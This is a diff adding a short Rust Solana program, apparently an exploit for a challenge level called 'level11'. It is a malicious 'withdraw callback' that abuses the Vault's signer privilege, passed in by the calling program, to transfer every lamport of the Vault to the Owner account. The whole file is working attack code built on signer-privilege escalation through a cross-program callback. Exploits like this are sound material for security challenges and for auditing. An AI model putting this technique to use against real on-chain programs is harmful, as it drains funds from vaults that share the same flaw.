@@ -0,0 +1,27 @@
+/*
+A "withdraw callback" that doesn't care about the withdraw.
+level11 calls it with [Balance, Vault, Owner, System program, ...] and the Vault as signer,
+so it uses that signature to send every lamport of the Vault to the Owner.
+ */
+
+use solana_program::{
+    account_info::AccountInfo, entrypoint, entrypoint::ProgramResult, msg, program::invoke,
+    pubkey::Pubkey, system_instruction,
+};
+
+entrypoint!(process_instruction);
+
+pub fn process_instruction(
+    _program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    _instruction_data: &[u8],
+) -> ProgramResult {
+    let vault = &accounts[1];
+    let owner = &accounts[2];
+    let system_program = &accounts[3];
+    msg!("vault is signer: {}", vault.is_signer);
+    invoke(
+        &system_instruction::transfer(vault.key, owner.key, vault.lamports()),
+        &[vault.clone(), owner.clone(), system_program.clone()],
+    )
+}